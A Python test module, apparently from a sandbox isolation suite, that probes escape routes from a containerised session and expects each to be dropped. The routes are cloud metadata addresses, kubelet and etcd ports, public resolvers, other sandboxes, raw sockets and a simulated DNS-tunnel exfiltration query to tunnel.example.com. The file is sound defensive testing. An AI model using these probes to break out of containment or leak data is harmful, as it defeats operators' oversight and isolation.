"""Ways into the network that are not the session's proxy. The fence drops; an answer of any kind, also a refusal, is a breach."""

import os
import socket
import struct

from table import FACTS, outcome, row

# What a dropped packet looks like; no route is as good.
DROPPED = "timed out|ENETUNREACH|EHOSTUNREACH|EPERM|EACCES|EADDRNOTAVAIL"
WAIT = 3


def tcp(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as stream:
        stream.settimeout(WAIT)
        stream.connect((host, port))
        return "connected"


def udp(host, port, payload):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(WAIT)
        sender.connect((host, port))
        sender.send(payload)
        return "answered %d bytes" % len(sender.recv(4096))


def query(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)


def resolve(name):
    try:
        return "resolved to " + socket.getaddrinfo(name, 443)[0][4][0]
    except socket.gaierror:
        return "no name"


def to(name, host, port):
    row("network/" + name, DROPPED)(lambda: outcome(tcp, host, port))


def asks(name, host, port, payload):
    row("network/" + name, DROPPED)(lambda: outcome(udp, host, port, payload))


NODE = FACTS["node"]
to("api-server-service", FACTS["api"], 443)
to("api-server-itself", FACTS["api_endpoint"], FACTS["api_endpoint_port"])
to("resolver-tcp", FACTS["resolver"], 53)
asks("resolver-udp", FACTS["resolver"], 53, query("kubernetes.default.svc.cluster.local"))
asks("dns-tunnel-through-the-resolver", FACTS["resolver"], 53, query("c2VjcmV0LXZhbHVl.tunnel.example.com"))
to("public-resolver-tcp", "1.1.1.1", 53)
asks("public-resolver-udp", "8.8.8.8", 53, query("example.com"))
to("public-resolver-over-tls", "9.9.9.9", 853)
to("public-web-by-address", "1.1.1.1", 443)
to("public-ssh-by-address", "140.82.112.3", 22)
to("metadata-v4", "169.254.169.254", 80)
to("metadata-v6", "fd00:ec2::254", 80)
to("metadata-of-tasks", "169.254.170.2", 80)
to("public-v6", "2606:4700:4700::1111", 443)
asks("quic", "1.1.1.1", 443, b"\xc0\x00\x00\x00\x01" + bytes(1195))
asks("time-service", "162.159.200.1", 123, b"\x1b" + bytes(47))
to("kubelet", NODE, 10250)
to("kubelet-read-only", NODE, 10255)
to("node-ssh", NODE, 22)
to("node-etcd", NODE, 2379)
to("node-port-first", NODE, 30000)
to("node-port-last", NODE, 32767)
to("model-pod", FACTS["model_pod"], 8080)
to("model-service", FACTS["model_service"], 80)
to("session-service", FACTS["session_service"], 8080)
to("session-pod", FACTS["session_pod"], 8080)
to("session-pod-health", FACTS["session_pod"], 8081)
to("session-pod-peers", FACTS["session_pod"], 8082)
to("operator", FACTS["operator_pod"], 8081)
if FACTS.get("etcd_pod"):
    to("etcd", FACTS["etcd_pod"], 2379)
to("own-harness-credentials", FACTS["harness"], 8081)
to("own-harness-health", FACTS["harness"], 8082)
to("other-harness-health", FACTS["other_harness"], 8082)
to("other-sandbox", FACTS["other_sandbox"], 8090)
to("other-sandbox-relay", FACTS["other_sandbox"], 3129)


@row("network/api-server-by-name", "no name")
def _():
    return resolve("kubernetes.default.svc.cluster.local")


@row("network/dns-tunnel-by-name", "no name")
def _():
    return resolve("c2VjcmV0LXZhbHVl.tunnel.example.com")


@row("network/icmp", DROPPED)
def _():
    def ping():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sender:
            sender.settimeout(WAIT)
            head = struct.pack(">BBHHH", 8, 0, 0, os.getpid() & 0xFFFF, 1)
            whole = sum(struct.unpack(">4H", head))
            check = ~(whole + (whole >> 16)) & 0xFFFF
            sender.sendto(struct.pack(">BBHHH", 8, 0, check, os.getpid() & 0xFFFF, 1), (FACTS["model_pod"], 0))
            return "answered %d bytes" % len(sender.recv(4096))

    return outcome(ping)


def raw(name, family, kind, protocol):
    def make():
        with socket.socket(family, kind, protocol):
            return "made"

    row("network/" + name, "EPERM|EACCES|EPROTONOSUPPORT|EAFNOSUPPORT|ESOCKTNOSUPPORT")(lambda: outcome(make))


raw("raw-socket", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw("packet-socket", socket.AF_PACKET, socket.SOCK_RAW, 0)
